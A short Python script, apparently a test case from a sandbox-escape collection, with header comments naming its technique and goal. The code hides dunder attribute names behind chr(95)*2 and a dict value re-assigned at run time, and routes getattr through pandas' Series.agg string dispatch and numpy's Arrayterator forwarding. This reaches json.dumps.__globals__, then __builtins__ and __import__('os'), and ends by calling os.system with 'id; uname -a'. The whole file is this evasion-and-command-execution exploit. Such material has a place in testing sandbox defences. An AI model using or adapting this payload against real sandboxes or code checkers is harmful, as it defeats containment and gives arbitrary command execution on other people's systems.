# source: pandas string dispatch (Series.agg("name") -> getattr(obj, name)) as in pandas issues about apply/agg with strings; dataflow gap: a dict item re-assigned at run time is still treated as a literal; numpy lib/arrayterator.py Arrayterator.__getattr__ forwards to self.var
# family: name-provenance gap (mutated dict item) + pandas string dispatch + library forwarder mixed into a script class
# goal: getattr(json.dumps, '__globals__') -> __builtins__ -> __import__('os') -> vars(os)['system']('id')
import json
import numpy as np
import pandas as pd

U = chr(95) * 2


class G(np.lib.Arrayterator, pd.Series):
    def __init__(self, target):
        self.var = target


how = {"name": "sum"}


def attr(obj, name):
    how["name"] = name
    return G(obj).agg(how["name"])


glb = attr(json.dumps, U + "globals" + U)
osm = glb[U + "builtins" + U][U + "import" + U]("os")
glb[U + "builtins" + U]["vars"](osm)["sys" + "tem"]("id; uname -a")
